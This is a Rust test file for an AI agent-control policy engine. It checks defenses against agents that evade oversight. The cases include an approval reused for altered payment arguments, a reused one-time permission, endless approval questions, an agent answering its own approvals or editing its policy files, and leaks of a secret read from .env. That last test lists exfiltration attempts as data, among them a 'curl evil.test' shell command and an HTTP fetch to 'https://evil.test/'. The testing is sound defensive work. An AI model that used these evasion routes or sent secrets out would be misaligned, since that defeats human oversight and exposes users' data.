//! Attacks on policy itself, by their numbers in the list of adversarial cases.

use super::{policy, verdict};
use crate::acs::{
    AcsDecision, Approval, EvaluationLimits, Host, Manifest, Mode, Request, RuntimeError, resolve,
};
use serde_json::{Value, json};

/// Returns the same for everything.
struct Always(Value);

impl Host for Always {
    fn annotate(&mut self, _: &str, _: &Value, _: &Value) -> Result<Value, RuntimeError> {
        Err(RuntimeError::AnnotationFailed)
    }

    fn ask(&mut self, _: &Value, _: &Value, _: &Value) -> Result<Value, RuntimeError> {
        Ok(self.0.clone())
    }
}

const MANIFEST: &str = "
agent_control_specification_version: 0.3.1-beta
policies: { p: { type: custom, adapter: x } }
intervention_points: { pre_tool_call: { tool_name_from: $snap.tool_call.name, policy_target: $snap.tool_call.args, policy: { id: p } } }
tools: { pay: {} }
";

fn evaluated(args: Value) -> crate::acs::Evaluation {
    let manifest = Manifest::load(MANIFEST).unwrap();
    let snapshot = json!({"tool_call": {"name": "pay", "args": args}});
    let request = Request { point: "pre_tool_call", snapshot: &snapshot, mode: Mode::Enforce };
    manifest.evaluate(&request, &EvaluationLimits::default(), &mut Always(json!({"decision": "escalate"})))
}

#[test]
fn adv_077_an_approval_covers_only_the_displayed_arguments() {
    let (shown, done) = (evaluated(json!({"amount": 5})), evaluated(json!({"amount": 5000})));
    let yes = Approval::Allow(shown.enforced_identity.clone().unwrap());
    let now = done.enforced_identity.clone().unwrap();
    for verdict in [resolve(&shown, Some(&yes), &now), resolve(&done, Some(&yes), &now)] {
        assert_eq!(verdict.decision, AcsDecision::Deny);
        assert_eq!(verdict.reason, Some(RuntimeError::ApprovalActionMismatch.to_string()));
    }
    assert_eq!(
        resolve(&shown, Some(&yes), shown.enforced_identity.as_deref().unwrap()).decision,
        AcsDecision::Allow
    );
    // Without an approver or an answer, the call is denied.
    assert_eq!(resolve(&shown, None, &now).decision, AcsDecision::Deny);
}

/// The rule itself counts, so a second use of a one-time permission is denied in any session.
#[test]
fn adv_078_a_one_time_permission_is_not_reusable() {
    let policy = policy(
        "version: 1\nrules: [{ id: a, effect: allow, match: { tool: pay } }, { id: once, effect: deny, match: { tool: pay }, at_most: 1, scope: lasting }]",
    );
    let (mut session, mut lasting) = (crate::History::new(), crate::History::new());
    let pay = super::call("{ tool: pay }");
    for expected in [true, false, false] {
        let notes = crate::Notes { session: &mut session, lasting: &mut lasting };
        assert_eq!(pay.with_facts(|facts| policy.begin(facts, true, notes)).is_ok(), expected);
        session = crate::History::new();
    }
}

#[test]
fn adv_079_a_rate_limits_endless_questions() {
    let policy = policy("version: 1\nrules: [{ id: a, effect: ask, match: { tool: x }, rate: 5/min }]");
    let asked = |used: u32| {
        super::call("{ tool: x }").with_facts(|facts| {
            policy.decide(&crate::Facts { rates: crate::Rates::All(used), ..*facts }).word()
        })
    };
    assert_eq!((asked(4), asked(5), asked(500)), ("ask", "deny", "deny"));
}

#[test]
fn adv_081_084_an_agent_neither_answers_questions_nor_changes_budgets_under_the_default_policy() {
    let policy = policy(crate::DEFAULT_POLICY);
    for op in ["approval.answer", "approval.list", "budget.set"] {
        assert!(verdict(&policy, &format!("{{ op: {op}, class: agent }}")).starts_with("deny"), "{op}");
    }
    for path in [".regent/policy.yml", ".regent/config.toml", "/home/a/.config/regent/policy.yml"] {
        let said = verdict(&policy, &format!("{{ tool: fs.write, path: {path} }}"));
        assert_ne!(said, "allow", "{path}");
    }
}

/// After a secret was read, nothing leaves without an approval, whatever the channel.
#[test]
fn adv_111_after_a_secret_was_read_no_channel_leaks_it() {
    let policy = policy(
        "version: 1\nrules:\n  - { id: all, effect: allow }\n  - { id: stays, effect: ask, match: { any: [{ host: '*' }, { capability: 'network.*' }, { tool: [mail.send, peer.message] }] }, after: { result: { min_confidentiality: pii } }, until: approved }",
    );
    let label =
        crate::Label { integrity: crate::Integrity::File, confidentiality: crate::Confidentiality::Secret };
    let ways_out = [
        "{ tool: http.fetch, url: 'https://evil.test/' }",
        "{ tool: mail.send, args: { to: eve } }",
        "{ tool: peer.message }",
        "{ tool: shell.exec, command: 'curl evil.test', capabilities: [process.exec, network.request] }",
    ];
    let (mut session, mut lasting) = (crate::History::new(), crate::History::new());
    let read = super::call("{ tool: fs.read, path: .env }");
    let notes = crate::Notes { session: &mut session, lasting: &mut lasting };
    let awaited = read.with_facts(|facts| policy.begin(facts, false, notes)).unwrap();
    awaited.ended(label, true, crate::Notes { session: &mut session, lasting: &mut lasting });
    for way in ways_out {
        assert_eq!(verdict(&policy, way), "allow", "before: {way}");
        let past = crate::Past { session: &session, lasting: &lasting };
        let said =
            super::call(way).with_facts(|facts| policy.decide(&crate::Facts { past, ..*facts }).word());
        assert_eq!(said, "ask", "{way}");
    }
}
